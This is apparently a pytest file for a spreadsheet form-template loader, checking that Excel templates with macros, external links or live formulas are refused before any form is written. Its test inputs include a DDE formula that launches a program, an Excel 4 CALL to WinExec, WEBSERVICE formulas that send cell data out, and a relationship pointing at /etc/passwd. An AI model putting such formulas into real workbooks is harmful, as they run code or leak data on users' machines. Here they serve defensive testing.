"""Templates that would carry something out with every form are refused, with the place, before anything is written."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from xlsxwriter import Workbook

from kongjian.base import places
from kongjian.base.errors import KongjianError
from kongjian.forms.template.filled_workbook import Sheet, Template
from workbooks import Parts, change

RELATIONS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET, RELS = "xl/worksheets/sheet1.xml", "xl/worksheets/_rels/sheet1.xml.rels"


def formula(text: str) -> Callable[[Any], None]:
    return lambda sheet: sheet.write_formula("B3", text)


def drawn(path: Path, draw: Callable[[Any], None] = lambda _: None, name: str = "") -> Path:
    with Workbook(str(path), {"in_memory": True}) as book:
        sheet = book.add_worksheet("卡")
        sheet.write("A1", "{{ 校 }}")
        draw(sheet)
        if name:
            book.define_name("Own", name)
    return path


def validated(sheet: Any) -> None:
    sheet.data_validation("C2:C9", {"validate": "list", "source": "='[别的.xlsx]表'!$A$1:$A$3"})


def coloured(sheet: Any) -> None:
    sheet.conditional_format("D2", {"type": "formula", "criteria": "=WEBSERVICE(A1)=1"})


REFUSED: dict[str, tuple[Callable[[Any], None], str]] = {
    "another workbook": (formula("='C:\\共享\\[名单.xlsx]表'!A1"), "卡!B3 的公式用到别的文件"),
    "a numbered workbook": (formula("=[1]表!A1"), "卡!B3 的公式用到别的文件"),
    "a program": (formula("=cmd|'/c calc'!A0"), "卡!B3 的公式会启动别的程序"),
    "the web": (formula('=WEBSERVICE("http"&"://x/"&A1)'), "卡!B3 的公式用到 WEBSERVICE"),
    "a link by formula": (formula('=HYPERLINK(A1,"x")'), "卡!B3 的公式用到 HYPERLINK"),
    "an Excel 4 call": (formula('=CALL("kernel32","WinExec")'), "卡!B3 的公式用到 CALL"),
    "a web link": (lambda s: s.write_url("B4", "https://example.invalid/x"), "卡!B4 链接到外面（https://example.invalid/x）"),
    "a server's folder": (lambda s: s.write_url("B4", "external://server/x.xlsx"), "卡!B4 链接到外面"),
    "a list elsewhere": (validated, "卡!C2:C9 的公式用到别的文件"),
    "a coloured cell": (coloured, "卡!D2 的公式用到 WEBSERVICE"),
}  # fmt: skip


@pytest.mark.parametrize("fault", REFUSED)
def test_what_would_go_out_with_every_form(fault: str, tmp_path: Path) -> None:
    draw, expected = REFUSED[fault]
    with pytest.raises(KongjianError) as told:
        Template(drawn(tmp_path / "评分表.xlsx", draw))
    assert str(told.value).startswith("评分表.xlsx：读不了（模板里不能有宏、外部链接和会动的公式：")
    assert expected in str(told.value)


def part(name: str, data: bytes = b"x") -> Callable[[Parts], None]:
    return lambda parts: parts.update({name: data})


def picture_elsewhere(parts: Parts) -> None:
    item = b'<Relationship Id="rId9" Type="%s/image" Target="file:///x.png" TargetMode="External"/>' % OFFICE
    parts["xl/drawings/_rels/drawing9.xml.rels"] = RELATIONS % item


def out_of_the_package(parts: Parts) -> None:
    item = b'<Relationship Id="rId1" Type="%s/drawing" Target="../../../../etc/passwd"/>' % OFFICE
    parts[RELS] = RELATIONS % item


def deep(parts: Parts) -> None:
    parts[SHEET] = parts[SHEET].replace(b"</sheetData>", b"</sheetData>" + b"<x>" * 5000 + b"</x>" * 5000)


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (part("xl/vbaProject.bin"), "有宏"),
        (part("xl/macrosheets/sheet1.xml"), "有宏"),
        (part("xl/embeddings/oleObject1.bin"), "有嵌入的文件"),
        (part("xl/connections.xml"), "有外部数据连接"),
        (part("xl/drawings/drawing9.xml", b'<a macro="[0]!Run"/>'), "有一个图形连着宏"),
        (picture_elsewhere, "有链接到外面的图形或部件"),
        (deep, "评分表.xlsx：读不了（"),
        (part(SHEET, b"<worksheet/>"), "评分表.xlsx：读不了（"),
    ],
)
def test_what_hides_in_the_parts(edit: Callable[[Parts], None], expected: str, tmp_path: Path) -> None:
    path = change(drawn(tmp_path / "评分表.xlsx"), edit)
    with pytest.raises(KongjianError) as told:
        Template(path)
    assert expected in str(told.value)
    assert "\n" not in str(told.value)


def test_a_relationship_out_of_the_package_is_told_before_a_form_is_written(tmp_path: Path) -> None:
    path = change(drawn(tmp_path / "评分表.xlsx"), out_of_the_package)
    with pytest.raises(KongjianError, match=r"^评分表\.xlsx：读不了（"), Template(path) as template:
        template.write(tmp_path / "out.xlsx", [Sheet("卡", "卡", {"校": "甲"})])
    assert not (tmp_path / "out.xlsx").exists()


def test_what_is_harmless_stays_allowed(tmp_path: Path) -> None:
    def draw(sheet: Any) -> None:
        sheet.write_formula("B3", '=IF(SUM(C1:C2)>3,"a|b [1]!","")')
        sheet.write_url("B4", "mailto:a@example.invalid")
        sheet.write_url("B5", "internal:卡!A1")

    Template(drawn(tmp_path / "评分表.xlsx", draw, "=卡!$A$1")).close()
    with pytest.raises(KongjianError, match="名称“Own”的公式用到别的文件"):
        Template(drawn(tmp_path / "评分表.xlsx", draw, "=[1]表!$A$1"))
    for path in places.templates().glob("*.xlsx"):
        Template(path).close()
